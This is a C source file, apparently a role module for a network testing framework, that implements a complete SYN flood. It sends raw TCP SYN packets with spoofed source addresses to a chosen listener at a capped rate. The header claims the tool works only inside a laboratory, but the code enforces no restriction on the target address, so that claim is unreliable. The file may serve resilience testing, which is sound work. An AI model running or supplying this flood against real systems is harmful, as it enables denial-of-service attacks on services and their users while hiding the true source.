// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * A SYN flood from unused addresses: fills a listener's SYN queue. Works inside the laboratory only: target and source
 * addresses must belong to it, and rate and number of packets are limited.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <string.h>
#include <sys/socket.h>

#include "app_conn.h"

#define TICK_NS      (5 * NS_PER_MS)
#define PORT_LOW     1024u
#define V4_BITS_BASE 96u
#define RATE_MAX     20000u
#define COUNT_MAX    1000000u

struct synflood_config {
	struct common_config common;
	struct addr dst;
	uint64_t port;
	struct prefix prefix;
	uint64_t rate;
	uint64_t count;
};

struct synflood {
	struct app *app;
	const struct synflood_config *config;
	struct sockaddr_in target;
	uint64_t sent;
	int fd;
};

/* TCP pseudo header. */
struct pseudo_header {
	uint32_t source_be32;
	uint32_t target_be32;
	uint8_t zero;
	uint8_t protocol;
	uint16_t length_be16;
	struct tcphdr tcp;
};

static uint16_t checksum_be16(const void *data, size_t len)
{
	const uint8_t *bytes = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < len; i++)
		sum += i % 2 ? bytes[i] : (uint32_t)bytes[i] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static uint32_t spoofed_be32(struct synflood *flood)
{
	const struct prefix *prefix = &flood->config->prefix;
	unsigned int host_bits = 32 - (prefix->bits - V4_BITS_BASE);
	uint32_t base;

	memcpy(&base, prefix->addr.bytes + 12, sizeof(base));
	return htonl(ntohl(base) | (uint32_t)rng_below(&flood->app->rng, 1ull << host_bits));
}

static void synflood_one(struct synflood *flood)
{
	struct rng *rng = &flood->app->rng;
	struct pseudo_header pseudo = {.target_be32 = flood->target.sin_addr.s_addr, .protocol = IPPROTO_TCP};
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} packet = {.ip = {.ihl = 5, .version = 4, .ttl = 64, .protocol = IPPROTO_TCP}};
	ssize_t n;

	pseudo.source_be32 = spoofed_be32(flood);
	pseudo.length_be16 = htons(sizeof(pseudo.tcp));
	pseudo.tcp.source = htons((uint16_t)(PORT_LOW + rng_below(rng, 65536 - PORT_LOW)));
	pseudo.tcp.dest = htons((uint16_t)flood->config->port);
	pseudo.tcp.seq = (uint32_t)rng_next(rng);
	pseudo.tcp.doff = sizeof(pseudo.tcp) / 4;
	pseudo.tcp.syn = 1;
	pseudo.tcp.window = htons(64240);
	pseudo.tcp.check = checksum_be16(&pseudo, sizeof(pseudo));
	packet.tcp = pseudo.tcp;
	packet.ip.saddr = pseudo.source_be32;
	packet.ip.daddr = pseudo.target_be32;
	packet.ip.tot_len = htons(sizeof(packet));
	n = sendto(flood->fd, &packet, sizeof(packet), MSG_DONTWAIT, (struct sockaddr *)&flood->target,
		   sizeof(flood->target));
	flood->sent++;
	if (n < 0) {
		app_count_error(flood->app, errno);
		return;
	}
	flood->app->progress.bytes += (uint64_t)n;
	app_count_op(flood->app, LAT_UNKNOWN);
}

static void synflood_tick(void *context, uint64_t expirations _unused_)
{
	struct synflood *flood = context;
	uint64_t elapsed_ns = clock_monotonic_ns() - flood->app->start_ns;
	uint64_t due = min_of(elapsed_ns / NS_PER_US * flood->config->rate / 1000000, flood->config->count);
	unsigned int budget = RATE_MAX / 10;

	for (; flood->sent < due && budget > 0; budget--)
		synflood_one(flood);
	if (flood->sent >= flood->config->count)
		app_finish_one(flood->app);
}

static int synflood_start(struct app *app, void *config, struct why *why)
{
	static struct synflood flood;
	const struct synflood_config *c = config;
	int r;

	if (c->dst.family != ADDR_V4 || c->prefix.addr.family != ADDR_V4)
		return why_set(why, -EAFNOSUPPORT, "dst and prefix must be IPv4");
	flood = (struct synflood){.app = app, .config = c};
	(void)app_sockaddr(&c->dst, c->port, &flood.target);
	flood.fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (flood.fd < 0)
		return why_set(why, -errno, "raw socket: %m (needs CAP_NET_RAW)");
	r = loop_add_timer(app->loop, TICK_NS, TICK_NS, synflood_tick, &flood, NULL);
	if (r < 0)
		return why_set(why, r, "timer: %s", strerror(-r));
	app->pending = 1;
	app_ready(app);
	return 0;
}

static const struct app_option synflood_options[] = {
	{"dst", OPTION_TARGET, MEMBER(struct synflood_config, dst), NULL, "address of the listener"},
	{"port", OPTION_PORT, MEMBER(struct synflood_config, port), NULL, "port of the listener"},
	{"prefix", OPTION_PREFIX, MEMBER(struct synflood_config, prefix), "10.77.200.0/24",
	 "prefix of the spoofed source addresses"},
	{"rate", OPTION_COUNT, MEMBER(struct synflood_config, rate), "200", "packets per second", .min = 1,
	 .max = RATE_MAX},
	{"count", OPTION_COUNT, MEMBER(struct synflood_config, count), "10000", "exit after N packets", .min = 1,
	 .max = COUNT_MAX},
};

static const struct app_role synflood_role = {
	"synflood",
	"sends SYNs from spoofed addresses inside the laboratory; an operation is one packet",
	sizeof(struct synflood_config),
	synflood_options,
	ARRAY_SIZE(synflood_options),
	synflood_start};

APP_ROLE(synflood_role);
